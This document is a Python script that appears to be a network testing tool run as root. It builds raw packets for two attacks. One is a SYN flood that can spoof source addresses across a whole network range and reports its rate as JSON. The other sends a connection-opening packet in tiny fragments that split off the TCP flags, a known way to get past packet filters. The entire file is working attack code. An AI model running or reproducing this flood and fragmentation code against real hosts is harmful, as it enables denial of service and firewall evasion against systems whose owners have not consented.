"""Packets that no program of a client sends. Run in another host's network, as root.

packets syn ADDRESS PORT COUNT [NETWORK]: so many of the first packets of a connection; with a network each
comes from another of its addresses. Prints how many, in what time, and its CPU time, as JSON.
packets fragments ADDRESS PORT: the first packet of a connection, in fragments that end before its flags; prints
"answered" when an answer came.
"""

import ipaddress
import json
import random
import socket
import struct
import sys
import time
from collections.abc import Iterator

SYN, ACK = 0x02, 0x10
MORE_FRAGMENTS = 0x2000
FRAGMENT = 8  # bytes: ports and number, without the flags
WAIT_S = 2.0


def checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def ip_packet(source: bytes, target: bytes, payload: bytes, number: int, fragment: int) -> bytes:
    """The kernel fills in the checksum."""
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), number, fragment, 64, 6, 0)
    return head + source + target + payload


def syn(source: bytes, target: bytes, port: int, own_port: int) -> bytes:
    """The first segment of a connection."""
    number = random.getrandbits(32)
    head = struct.pack("!HHIIBBHHH", own_port, port, number, 0, 0x50, SYN, 64240, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, 6, len(head))
    return head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]


def own_address(target: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as looking:
        looking.connect((target, 9))
        return str(looking.getsockname()[0])


def sources(target: str, network: str | None) -> Iterator[bytes]:
    """Without end; none of them is the target's."""
    if network is None:
        addresses = [own_address(target)]
    else:
        addresses = [str(host) for host in ipaddress.IPv4Network(network).hosts()]
        addresses = [address for address in addresses if address != target]
    while True:
        yield from map(socket.inet_aton, addresses)


def raw_socket() -> socket.socket:
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def flood(target: str, port: int, count: int, network: str | None) -> None:
    address = socket.inet_aton(target)
    begun, cpu = time.monotonic(), time.process_time()
    with raw_socket() as out:
        for number, source in zip(range(count), sources(target, network)):
            segment = syn(source, address, port, 1024 + number % 60000)
            out.sendto(ip_packet(source, address, segment, 0, 0), (target, 0))
    took, used = time.monotonic() - begun, time.process_time() - cpu
    print(json.dumps({"count": count, "other": 0, "seconds": took, "cpu_s": used}))


def is_answered(target: str, port: int) -> bool:
    """Whether a connection may begin by a packet in fragments."""
    address, own = socket.inet_aton(target), socket.inet_aton(own_address(target))
    own_port = random.randrange(20000, 60000)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as answers:
        answers.settimeout(WAIT_S)
        segment = syn(own, address, port, own_port)
        with raw_socket() as out:
            for begin in range(0, len(segment), FRAGMENT):
                part = segment[begin : begin + FRAGMENT]
                more = MORE_FRAGMENTS if begin + FRAGMENT < len(segment) else 0
                packet = ip_packet(own, address, part, own_port, more | begin // 8)
                out.sendto(packet, (target, 0))
        wanted = struct.pack("!HH", port, own_port)
        try:
            while True:
                segment = answers.recv(2048)[20:]
                if segment[:4] == wanted and segment[13] & (SYN | ACK) == SYN | ACK:
                    return True
        except TimeoutError:
            return False


def main() -> None:
    kind, target, port, *rest = sys.argv[1:]
    if kind == "syn":
        flood(target, int(port), int(rest[0]), rest[1] if len(rest) > 1 else None)
    elif is_answered(target, int(port)):
        print("answered")


if __name__ == "__main__":
    main()
